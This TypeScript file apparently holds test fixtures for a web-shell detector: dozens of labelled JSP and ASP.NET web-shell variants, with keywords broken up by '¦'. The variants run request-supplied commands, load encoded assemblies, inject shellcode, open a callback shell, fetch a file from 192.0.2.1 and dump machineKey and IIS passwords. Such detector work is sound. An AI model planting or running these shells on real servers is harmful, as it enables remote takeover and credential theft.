import type { Variant } from './variants.ts';

/** Further ways, as {@link Variant} has them. */
export const moreVariants: readonly Variant[] = [
  [
    'jsp bean expression',
    '<% String c = re¦quest.getParameter("c"); new java.beans.Expression(Run¦time.getRun¦time(), "ex¦ec", new Object[]{c}).getValue(); Expression e = new Expression(Run¦time.getRun¦time(), "ex¦ec", new Object[]{c}); %>',
    'p.jsp',
  ],
  ['jsp jshell', '<%= jdk.jshell.JShell.builder().build().ev¦al(re¦quest.getParameter("s")) %>', 'p.jsp'],
  [
    'jsp writer of a file',
    '<% String path = re¦quest.getParameter("p"); String t = re¦quest.getParameter("t"); File f = new File(path); PrintWriter writer = new PrintWriter(f); writer.println(t); writer.close(); %>',
    'p.jsp',
  ],
  [
    'jsp log as a page',
    '<% java.util.logging.Logger l = java.util.logging.Logger.getLogger("t"); FileHandler h = new FileHandler(root + re¦quest.getParameter("f"), true); l.addHandler(h); l.info(re¦quest.getParameter("t")); %>',
    'p.jsp',
  ],
  [
    'wide blanks',
    '<%@ Page Language="C#" %><% string\u2003c\u3000=\u2003Re¦quest["c"];\u2003Pr¦ocess.St¦art("cm¦d",\u00a0c); %>',
    'p.aspx',
  ],
  [
    'comment ended by a carriage return',
    '<%@ Page Language="C#" %><% // x\rPr¦ocess.St¦art("cm¦d", Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'comment ended by a line separator',
    '<%@ Page Language="Js¦cript" %><% // x\u2028ev¦al(Re¦quest["c"], "un¦safe"); %>',
    'p.aspx',
  ],
  [
    'jscript web method',
    '<%@ WebService Language="JScript" class="S" %>import System; public class S extends WebService { WebMethodAttribute function Go(a : String) : String { return ev¦al(a); } }',
    'p.asmx',
  ],
  ['cut off', '<%@ Page Language="Js¦cript" %><%ev¦al(Re¦quest.Item["1"],"un¦safe', 'p.aspx'],
  ['open directive', '<% @page Language="Js¦cript"><%ev¦al(Re¦quest.Item["c"],"un¦safe");%>', 'p.aspx'],
  [
    'moves a file',
    '<%@ Page Language="C#" %><% System.IO.File.Move(Re¦quest["a"], Re¦quest["b"]); %>',
    'p.aspx',
  ],
  [
    'declared',
    '<asp:ObjectDataSource ru¦nat="server" ID="o" TypeName="System.Diagnostics.Pr¦ocess, System" SelectMethod="Start"><SelectParameters><asp:QueryStringParameter Name="fileName" QueryStringField="c"/></SelectParameters></asp:ObjectDataSource>',
    'p.aspx',
  ],
  [
    'binding',
    '<%@ Page Language="C#" %><form ru¦nat=server><asp:Literal ru¦nat=server Text=\'<%# System.Diagnostics.Pr¦ocess.Start("cm¦d", Re¦quest["x"]) %>\' /></form>',
    'p.aspx',
  ],
  [
    'binding js eval',
    '<%@ Page Language="Js¦cript" %><asp:Literal ru¦nat=server Text=\'<%# ev¦al(Re¦quest["x"],"un¦safe") %>\'/>',
    'p.aspx',
  ],
  [
    'attr code',
    '<%@ Page Language="C#" %><a href="<%= System.Diagnostics.Pr¦ocess.Start("cm¦d", Re¦quest["x"]) %>">x</a>',
    'p.aspx',
  ],
  [
    'cookie',
    '<%@ Page Language="C#" %><% var c = Re¦quest.Cookies["x"].Value; var a = As¦sembly.Lo¦ad(Convert.FromBase64String(c)); a.GetType("X").GetMethod("Y").In¦voke(null,null); %>',
    'p.aspx',
  ],
  [
    'property get',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server> string C { get { return Re¦quest["c"]; } } void Page_Lo¦ad(object s, EventArgs e){ Pr¦ocess.Start("cm¦d", C); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'field',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server> string c; void Page_Init(object s, EventArgs e){ c = Re¦quest["c"]; } void Page_Lo¦ad(object s, EventArgs e){ Pr¦ocess.Start("cm¦d", c); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'dictionary',
    '<%@ Page Language="C#" %><% var d = new Dictionary<string,string>(); d["a"] = Re¦quest["c"]; Pr¦ocess.Start("cm¦d", d["a"]); %>',
    'p.aspx',
  ],
  [
    'string.format',
    '<%@ Page Language="C#" %><% var a = string.Format("/c {0}", Re¦quest["c"]); Pr¦ocess.Start("cm¦d", a); %>',
    'p.aspx',
  ],
  [
    'array join',
    '<%@ Page Language="C#" %><% var a = string.Join(" ", new string[]{ "/c", Re¦quest["c"] }); Pr¦ocess.Start("cm¦d", a); %>',
    'p.aspx',
  ],
  [
    'out param',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>void G(out string s){ s = Re¦quest["c"]; } void Page_Lo¦ad(object o, EventArgs e){ string x; G(out x); Pr¦ocess.Start("cm¦d", x); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'class with ctor',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>class A { public string c; public A(string x){ c = x; } public void Go(){ Pr¦ocess.Start("cm¦d", c); } } void Page_Lo¦ad(object o, EventArgs e){ new A(Re¦quest["c"]).Go(); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'nvc',
    '<%@ Page Language="C#" %><% NameValueCollection q = HttpUtility.ParseQueryString(Re¦quest.Url.Query); Pr¦ocess.Start("cm¦d", q["c"]); %>',
    'p.aspx',
  ],
  [
    'session handoff',
    '<%@ Page Language="C#" %><% if (Re¦quest["c"] != null) Session["c"] = Re¦quest["c"]; Pr¦ocess.Start("cm¦d", Session["c"].ToString()); %>',
    'p.aspx',
  ],
  [
    'viewstate',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>void b(object s, EventArgs e){ Pr¦ocess.Start("cm¦d", Re¦quest.Form[t.UniqueID]); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'html input',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>void b(object s, EventArgs e){ Pr¦ocess.Start("cm¦d", c.Value); }</sc¦ript><input id="c" type="text" ru¦nat="server" />',
    'p.aspx',
  ],
  [
    'findcontrol',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>void b(object s, EventArgs e){ Pr¦ocess.Start("cm¦d", ((TextBox)FindControl("c")).Text); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'dyn textbox',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>TextBox t = new TextBox(); void Page_Lo¦ad(object s, EventArgs e){ f.Controls.Add(t); Pr¦ocess.Start("cm¦d", t.Text); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'stdin',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>void b(object s, EventArgs e){ Pr¦ocess p = new Pr¦ocess(); p.StartInfo.FileName = "cm¦d.exe"; p.StartInfo.RedirectStandardInput = true; p.Start(); p.StandardInput.WriteLine(Re¦quest.Form["c"]); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'vb code',
    '<%@ Page Language="VB" %><sc¦ript ru¦nat="server">\nSub Page_Lo¦ad(s As Object, e As EventArgs)\n Dim p As New System.Diagnostics.Pr¦ocess\n p.StartInfo.FileName = "cm¦d.exe"\n p.StartInfo.Arguments = "/c " & _\n Re¦quest.QueryString("c")\n p.Start()\nEnd Sub\n</sc¦ript>',
    'p.aspx',
  ],
  [
    'vb lateb',
    '<%@ Page Language="VB" %><% Dim o As Object = CreateObject("Sh¦ell.Application") : o.Sh¦ellEx¦ecute("cm¦d.exe", Re¦quest("c")) %>',
    'p.aspx',
  ],
  [
    'vb callbyname',
    '<%@ Page Language="VB" %><% CallByName(New System.Diagnostics.Pr¦ocess(), "Start", CallType.Method, Re¦quest("c")) %>',
    'p.aspx',
  ],
  [
    'vb compile',
    '<%@ Page Language="VB" %><% Dim r = New VBCodeProvider().Co¦mpileAs¦semblyFromSource(New Co¦mpilerParameters(), Re¦quest("c")) %>',
    'p.aspx',
  ],
  [
    'unicode cs',
    '<%@ Page Language="C#" %><% System.Diagnostics.\\u0050rocess.St\\u0061rt("cm¦d", \\u0052equest["c"]); %>',
    'p.aspx',
  ],
  [
    'U8 cs',
    '<%@ Page Language="C#" %><% System.Diagnostics.\\U00000050rocess.Start("cm¦d", Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'zero width',
    '<%@ Page Language="C#" %><% System.Diagnostics.Pro‍cess.Start("cm¦d", Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'at ident',
    '<%@ Page Language="C#" %><% System.Diagnostics.@Pr¦ocess.@Start("cm¦d", @Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'verbatim path',
    '<%@ Page Language="C#" %><% Pr¦ocess.Start(@"c:\\windows\\system32\\cm¦d.exe", Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'global::',
    '<%@ Page Language="C#" %><% global::System.Diagnostics.Pr¦ocess.Start("cm¦d", Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'reverse string',
    '<%@ Page Language="C#" %><% var n = new string("tratS".Reverse().ToArray()); typeof(Pr¦ocess).GetMethod(n, new[]{typeof(string)}).In¦voke(null, new object[]{Re¦quest["c"]}); %>',
    'p.aspx',
  ],
  [
    'replace',
    '<%@ Page Language="C#" %><% Type.GetType("SystemXDiagnosticsXPr¦ocess".Replace("X",".")).In¦vokeMember("Start", BindingFlags.In¦vokeMethod, null, null, new object[]{Re¦quest["c"]}); %>',
    'p.aspx',
  ],
  [
    'activator',
    '<%@ Page Language="C#" %><% dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Sh¦ell")); s.Run(Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'com clsid',
    '<%@ Page Language="C#" %><% dynamic s = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8"))); s.Run("cm¦d /c " + Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'appdomain',
    '<%@ Page Language="C#" %><% AppDomain.CurrentDomain.Lo¦ad(Convert.FromBase64String(Re¦quest["a"])).EntryPoint.In¦voke(null, null); %>',
    'p.aspx',
  ],
  [
    'gzip',
    '<%@ Page Language="C#" %><% var g = new GZipStream(Re¦quest.InputStream, CompressionMode.Decompress); var m = new MemoryStream(); g.CopyTo(m); As¦sembly.Lo¦ad(m.ToArray()); %>',
    'p.aspx',
  ],
  [
    'xor loop',
    '<%@ Page Language="C#" %><% byte[] d = Convert.FromBase64String(Re¦quest["p"]); for (int i=0;i<d.Length;i++) d[i] ^= 7; As¦sembly.Lo¦ad(d); %>',
    'p.aspx',
  ],
  [
    'xor newarr',
    '<%@ Page Language="C#" %><% byte[] d = Convert.FromBase64String(Re¦quest["p"]); byte[] o = new byte[d.Length]; for (int i=0;i<d.Length;i++) o[i] = (byte)(d[i] ^ 7); As¦sembly.Lo¦ad(o); %>',
    'p.aspx',
  ],
  [
    'array.copy',
    '<%@ Page Language="C#" %><% byte[] d = Re¦quest.BinaryRead(Re¦quest.ContentLength); byte[] o = new byte[d.Length-1]; Array.Copy(d, 1, o, 0, o.Length); As¦sembly.Lo¦ad(o); %>',
    'p.aspx',
  ],
  [
    'blockcopy',
    '<%@ Page Language="C#" %><% byte[] d = Re¦quest.BinaryRead(9); byte[] o = new byte[9]; Buffer.BlockCopy(d, 1, o, 0, 8); As¦sembly.Lo¦ad(o); %>',
    'p.aspx',
  ],
  [
    'listener',
    '<%@ Page Language="C#" %><% var l = new HttpListener(); l.Prefixes.Add("http://*:80/x/"); l.Start(); var c = l.GetContext(); Pr¦ocess.Start("cm¦d", new StreamReader(c.Re¦quest.InputStream).ReadToEnd()); %>',
    'p.aspx',
  ],
  [
    'asp in aspx handler',
    '<%@ webhandler language="C#" class="AverageHandler" %>\nusing System; using System.Web; using System.Diagnostics; using System.IO;\npublic class AverageHandler : IHttpHandler { public bool IsReusable { get { return true; } } public void Pr¦ocessRe¦quest(HttpContext ctx) { Uri url = new Uri(HttpContext.Current.Re¦quest.Url.Scheme + "://" + HttpContext.Current.Re¦quest.Url.Authority + HttpContext.Current.Re¦quest.RawUrl); string command = HttpUtility.ParseQueryString(url.Query).Get("cm¦d"); ctx.Response.Write("Command: "+command); Pr¦ocessStartInfo psi = new Pr¦ocessStartInfo(); psi.FileName = "cm¦d.exe"; psi.Arguments = "/c "+command; Pr¦ocess p = Pr¦ocess.Start(psi); } }',
    'a.ashx',
  ],
];

/** Ways that are seen in part only: suspicious, not more. */
export const partlySeen: readonly Variant[] = [
  ['jsp runtime by a variable', '<% Run¦time r = Run¦time.getRun¦time(); r.ex¦ec("bash -i"); %>', 'p.jsp'],
  [
    'eval in an object',
    '<sc¦ript ru¦nat=server language=javascript> var f = {"e":ev¦al}; f.e(unpacked(String(Re¦quest.form("z")))); </sc¦ript>',
    'p.asp',
  ],
  [
    'godz assembly session only',
    '<%@ Page Language="C#" %><% ((System.Re¦flection.As¦sembly)Session["p"]).CreateInstance("LY").Equals(Context); %>',
    'p.aspx',
  ],
  [
    'delegate',
    '<%@ Page Language="C#" %><% Func<string,string,Pr¦ocess> f = Pr¦ocess.Start; f("cm¦d", Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'lambda',
    '<%@ Page Language="C#" %><% Action<string> a = x => Pr¦ocess.Start("cm¦d", x); a(Re¦quest["c"]); %>',
    'p.aspx',
  ],
  [
    'linq',
    '<%@ Page Language="C#" %><% new[]{Re¦quest["c"]}.ToList().ForEach(x => Pr¦ocess.Start("cm¦d", x)); %>',
    'p.aspx',
  ],
  [
    'jscript alias',
    '<%@ Page Language="Js¦cript" %><% var e = ev¦al; e(Re¦quest["a"], "un¦safe"); %>',
    'p.aspx',
  ],
  [
    'jscript eval twice',
    "<%@ Page Language=\"Js¦cript\" %><% ev¦al(ev¦al('Req'+'uest')['x'],'un¦safe') %>",
    'p.aspx',
  ],
  [
    'download fixed',
    '<%@ Page Language="C#" %><% new WebClient().DownloadFile("http://192.0.2.1/a.txt", Se¦rver.MapPath("b.aspx")); %>',
    'p.aspx',
  ],
  [
    'http relay',
    '<%@ Page Language="C#" %><% HttpWebRe¦quest r = (HttpWebRe¦quest)WebRe¦quest.Create(Re¦quest.Headers["X-Url"]); r.Method = Re¦quest.HttpMethod; using (var o = r.GetRe¦questStream()) Re¦quest.InputStream.CopyTo(o); var p = r.GetResponse(); p.GetResponseStream().CopyTo(Response.OutputStream); %>',
    'p.aspx',
  ],
  [
    'shellcode',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>[System.Runtime.InteropServices.DllImport("kernel32")] private static extern IntPtr Vi¦rtualAlloc(IntPtr a, UIntPtr s, Int32 f, IntPtr p); [DllImport("kernel32")] private static extern IntPtr Cr¦eateThread(IntPtr a, UIntPtr b, IntPtr c, IntPtr d, Int32 e, ref IntPtr f); void Page_Lo¦ad(object o, EventArgs e){ byte[] x = new byte[]{0xfc,0x48}; IntPtr h = Vi¦rtualAlloc(IntPtr.Zero,(UIntPtr)x.Length,0x1000,(IntPtr)0x40); System.Runtime.InteropServices.Marshal.Copy(x,0,h,x.Length); Cr¦eateThread(IntPtr.Zero,UIntPtr.Zero,h,IntPtr.Zero,0,ref t); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'embedded dll',
    '<%@ Page Language="C#" %><% System.Re¦flection.As¦sembly.Lo¦ad(System.Convert.FromBase64String("TV¦qQAAMAAAAEAAAA//8AALgAAAAAAAAA")).CreateInstance("X").Equals(Context); %>',
    'p.aspx',
  ],
  [
    'machinekey',
    '<%@ Page Language="C#" %><%@ Import Namespace="System.Re¦flection"%><sc¦ript ru¦nat="server" language="c#" CODEPAGE="65001">public void Page_load(){ var sy = System.Re¦flection.As¦sembly.Lo¦ad("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a"); var mkt = sy.GetType("System.Web.Configuration.MachineKeySection"); var gac = mkt.GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic); var cg = (System.Web.Configuration.MachineKeySection)gac.In¦voke(null, new object[0]); Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey); }</sc¦ript>',
    'p.aspx',
  ],
  [
    'cshtml functions',
    '@using System.Diagnostics\n@functions { string R(string c) { var p = Pr¦ocess.Start("cm¦d", c); return ""; } }\n<p>It\'s @R(Re¦quest["x"])</p>',
    'p.cshtml',
  ],
  [
    'interp',
    '<%@ Page Language="C#" %><% var a = $"/c {Re¦quest["c"]}"; Pr¦ocess.Start("cm¦d", a); %>',
    'p.aspx',
  ],
  [
    'insomnia',
    '<%@ Page Language="C#" %><sc¦ript ru¦nat=server>[DllImport("kernel32.dll")] static extern bool CreatePr¦ocess(string a, string b, ref X p, ref X t, bool i, uint f, IntPtr e, string d, ref S s, out P o); [DllImport("WS2_32.dll")] static extern IntPtr WSASo¦cket(int a, int b, int c, IntPtr d, uint g, uint f); void Go(object o, EventArgs e){ string h = txtHost.Text; CallbackSh¦ell(h, 1); } void CallbackSh¦ell(string server, int port){ connect(server, port); CreatePr¦ocess(null, "cm¦d", ref a, ref b, true, 0, IntPtr.Zero, null, ref s, out p); }</sc¦ript><form ru¦nat=server><asp:TextBox id="txtHost" ru¦nat="server"/></form>',
    'p.aspx',
  ],
  [
    'iis pass',
    '<%@ Page Language="C#" %><% DirectoryEntry r = new DirectoryEntry("IIS://localhost/W3SVC"); foreach (DirectoryEntry c in r.Children) Response.Write(c.Properties["AnonymousUserPass"].Value); %>',
    'p.aspx',
  ],
];
